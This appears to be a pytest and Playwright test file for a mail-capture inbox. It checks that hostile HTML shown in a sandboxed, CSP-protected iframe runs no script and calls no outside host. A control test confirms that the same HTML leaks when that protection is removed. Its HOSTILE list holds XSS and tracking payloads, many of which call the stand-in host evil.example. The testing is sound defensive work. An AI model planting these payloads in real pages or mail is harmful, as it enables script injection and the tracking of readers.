"""Hostile HTML in a real browser: nothing runs, nothing calls home, nothing reaches the inbox."""

from __future__ import annotations

from dataclasses import dataclass, field

import pytest
from playwright.async_api import Dialog, Page, Route

from fakes.core.fake import Document
from fakes.mail.document import html_document
from tests.fakes.mail.builders import a_capture, a_mail, octets

pytestmark = pytest.mark.asyncio(loop_scope="session")
INBOX = "http://inbox.example"
HOSTILE = [
    "<script>parent.alert(1);fetch('{evil}')</script>",
    "<script src='{evil}'></script>",
    "<img src=x onerror=\"alert(1);new Image().src='{evil}'\">",
    "<img src='{evil}'><img srcset='{evil} 2x'><picture><source srcset='{evil}'><img></picture>",
    "<svg onload=alert(1)><image href='{evil}'/><use href='{evil}#x'/><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<meta http-equiv=refresh content='0;url={evil}'>",
    "<noscript><meta http-equiv=refresh content='0;url={evil}'></noscript>",
    "<META HTTP-EQUIV='refresh' CONTENT='0;url=javascript:alert(1)'>",
    "<base href='{evil}'><img src='relative.png'>",
    "<link rel=stylesheet href='{evil}'><link rel=prefetch href='{evil}'><link rel=icon href='{evil}'>",
    "<link rel=preload as=image href='{evil}'><link rel=modulepreload href='{evil}'>",
    "<style>@import '{evil}'; body {{ background: url({evil}) }} @font-face {{ font-family: f; src: url({evil}) }}"
    "p {{ font-family: f }}</style><p>x</p>",
    "<div style='background-image: url({evil}); list-style: url({evil})'>x</div><p style='content: url({evil})'>x",
    "<body background='{evil}' onload='alert(1)'><table background='{evil}'><tr><td background='{evil}'>x</table>",
    "<iframe src='{evil}'></iframe><iframe srcdoc=\"<script>parent.parent.alert(1)</script>\"></iframe>",
    "<object data='{evil}'></object><embed src='{evil}'><applet code='{evil}'></applet>",
    "<video autoplay poster='{evil}' src='{evil}'></video><audio autoplay src='{evil}'></audio>",
    "<input type=image src='{evil}'><form action='{evil}'><input name=x autofocus onfocus=this.form.submit()></form>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
    "</iframe></body></html><script>top.alert(1)</script><img src='{evil}'>",
    "<template shadowrootmode=open><img src='{evil}'><script>alert(1)</script></template>",
    "<img src='/api/v1/messages'><img src='{inbox}/stagedoor/v1/captures'><iframe src='/ui/'></iframe>",
    "<frameset><frame src='{evil}'></frameset>",
]


@dataclass
class Watched:
    """A page whose every request is answered here, and everything that should not have happened."""

    page: Page
    leaks: list[str] = field(default_factory=list)

    async def show(self, document: Document, *, is_framed_safely: bool = True) -> None:
        """Show a document as the inbox does; without safety if the test is to be tested."""
        sandbox = 'sandbox="allow-popups allow-popups-to-escape-sandbox"' if is_framed_safely else ""
        headers = {"Content-Security-Policy": document.policy} if is_framed_safely else {}

        async def answer(route: Route) -> None:
            url = route.request.url
            if url == f"{INBOX}/page":
                await route.fulfill(
                    body=f'<iframe {sandbox} src="/document"></iframe>', content_type="text/html"
                )
            elif url == f"{INBOX}/document":
                await route.fulfill(
                    body=document.body, headers={**headers, "Content-Type": document.content_type}
                )
            else:
                self.leaks.append(url)
                await route.fulfill(status=204)

        async def dismiss(dialog: Dialog) -> None:
            self.leaks.append(f"dialog {dialog.message}")
            await dialog.dismiss()

        self.page.on("dialog", dismiss)
        await self.page.route("**/*", answer)
        await self.page.goto(f"{INBOX}/page")
        await self.page.wait_for_load_state("networkidle")
        await self.page.unroute("**/*", answer)
        self.page.remove_listener("dialog", dismiss)


def _document(html: str) -> Document:
    raw = octets(a_mail(None, html))
    return html_document(a_capture(raw), raw)


def _all_hostile() -> str:
    # Each snippet in a page of its own would show more clearly which one leaks, at half a second each.
    return "<hr>".join(HOSTILE).format(evil="http://evil.example/x", inbox=INBOX)


async def test_hostile_html_runs_nothing_and_asks_nobody(page: Page) -> None:
    watched = Watched(page)
    await watched.show(_document(_all_hostile()))
    assert watched.leaks == []
    assert page.url == f"{INBOX}/page"


@pytest.mark.parametrize("number", [6, 9, 15, 20, 22, 23])
async def test_what_depends_on_the_place_in_the_page_leaks_nothing_either(page: Page, number: int) -> None:
    watched = Watched(page)
    await watched.show(_document(HOSTILE[number].format(evil="http://evil.example/x", inbox=INBOX)))
    assert watched.leaks == []


async def test_the_same_html_would_leak_without_the_policy(page: Page) -> None:
    watched = Watched(page)
    await watched.show(_document(_all_hostile()), is_framed_safely=False)
    assert len(watched.leaks) > 10
